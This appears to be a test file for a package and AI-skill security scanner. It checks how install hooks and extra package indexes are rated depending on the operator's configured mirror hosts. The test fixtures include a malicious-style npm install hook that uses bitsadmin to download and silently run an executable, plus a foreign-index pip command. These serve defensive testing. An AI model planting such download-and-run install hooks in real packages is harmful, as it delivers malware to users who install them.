/**
 * The operator's package indexes (PYPI_URL, NPM_REGISTRY_URL, PACKAGE_INDEX_HOSTS) reach the analyses
 * as data handed in (shared/sandbox/analysis-settings.ts), read once from the configuration
 * (shared/config.ts packageIndexHosts): the sandbox's host knowledge (reputation.ts) never reads the
 * environment itself, so an analysis thread never needs the configuration schema.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { packageIndexHosts, readEnvironment } from '../../shared/config.js';
import { analyzeSkill } from '../../shared/sandbox/analyze.js';
import { useAnalysisSettings } from '../../shared/sandbox/analysis-settings.js';
import { configuredIndexHosts, isKnownIndex, useConfiguredIndexHosts } from '../../shared/sandbox/reputation.js';
import { analyzeArchive } from '../../shared/packages/analysis/index.js';
import { parseSkill } from '../../shared/skills/parse.js';
import { npmTgz } from '../fixtures/archives/build.js';

const MIRROR = 'pkgs.corp-mirror.example';
const saved = configuredIndexHosts();

const skill = (cmd: string) =>
  parseSkill(`---\nname: demo-skill\ndescription: Helps the user with a demo task and explains each step it takes.\n---\n\n# Demo\n\n\`\`\`bash\n${cmd}\n\`\`\`\n`, { field: 'skillMdContent' });
const skillRules = (cmd: string) => analyzeSkill(skill(cmd)).findings.map((f) => f.ruleId);

/** An install hook that downloads a program and runs it: from a configured index it is a known host, elsewhere a foreign one. */
const installFrom = (host: string) =>
  npmTgz({
    'package.json': JSON.stringify({ name: 'embed-tool', version: '1.0.0', scripts: { install: 'install.bat' } }),
    'install.bat': `@echo off\nbitsadmin /transfer u https://${host}/tools/setup.exe %TEMP%\\setup.exe\n%TEMP%\\setup.exe /quiet\n`,
  });
const hookRules = async (buf: Buffer) =>
  (await analyzeArchive(buf, { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] })).findings.filter((f) => f.category === 'install_script').map((f) => `${f.ruleId}:${f.severity}`);

test.after.each(() => useConfiguredIndexHosts(saved));

test('the configured hosts come from the configuration: the registries\' hosts and PACKAGE_INDEX_HOSTS, lower case', () => {
  const env = readEnvironment({ PYPI_URL: 'https://PyPI.Mirror.Example/simple', NPM_REGISTRY_URL: 'http://npm.mirror.example:4873/', PACKAGE_INDEX_HOSTS: ` ${MIRROR.toUpperCase()}, ,wheels.example.org ` });
  assert.equal(packageIndexHosts(env), ['pypi.mirror.example', 'npm.mirror.example', MIRROR, 'wheels.example.org']);
  assert.equal(packageIndexHosts(readEnvironment({})), [], 'nothing configured: none');
});

test('reputation knows only the hosts handed in, never the environment', () => {
  const before = process.env.PACKAGE_INDEX_HOSTS;
  process.env.PACKAGE_INDEX_HOSTS = MIRROR;
  try {
    useConfiguredIndexHosts([]);
    assert.not.ok(isKnownIndex(MIRROR), 'a variable in the environment is not read here');
    useConfiguredIndexHosts([` ${MIRROR.toUpperCase()} `]);
    assert.equal(configuredIndexHosts(), [MIRROR]);
    assert.ok(isKnownIndex(MIRROR));
    assert.ok(isKnownIndex(`eu.${MIRROR}`), 'a subdomain of a configured index');
    assert.not.ok(isKnownIndex(`${MIRROR}.attacker.example`), 'a configured name at the front of another domain');
    assert.not.ok(isKnownIndex('corp-mirror.example'), 'the parent domain is not the index');
  } finally {
    if (before === undefined) delete process.env.PACKAGE_INDEX_HOSTS;
    else process.env.PACKAGE_INDEX_HOSTS = before;
  }
});

test('skills: pip --extra-index-url to a configured index is not SUPPLY-INDEX-001; to any other host it still is', () => {
  const cmd = `pip install --extra-index-url https://${MIRROR}/simple/ corp-core`;
  useAnalysisSettings({ packageIndexHosts: [] });
  assert.ok(skillRules(cmd).includes('SUPPLY-INDEX-001'), 'not configured: a foreign index');
  useAnalysisSettings({ packageIndexHosts: [MIRROR] });
  assert.not.ok(skillRules(cmd).includes('SUPPLY-INDEX-001'), 'configured: the operator trusts it');
  assert.ok(skillRules('pip install --extra-index-url https://pkgs.other-mirror.example/simple/ corp-core').includes('SUPPLY-INDEX-001'), 'another host');
});

test('packages: an install hook running a program from a configured index is MEDIUM; from another host CRITICAL', async () => {
  useAnalysisSettings({ packageIndexHosts: [] });
  assert.equal(await hookRules(installFrom(MIRROR)), ['install_script_remote:CRITICAL']);
  useAnalysisSettings({ packageIndexHosts: [MIRROR] });
  assert.equal(await hookRules(installFrom(MIRROR)), ['install_script_runs_download:MEDIUM']);
  assert.equal(await hookRules(installFrom('cdn-update-service.example')), ['install_script_remote:CRITICAL'], 'another host');
});

test.run();
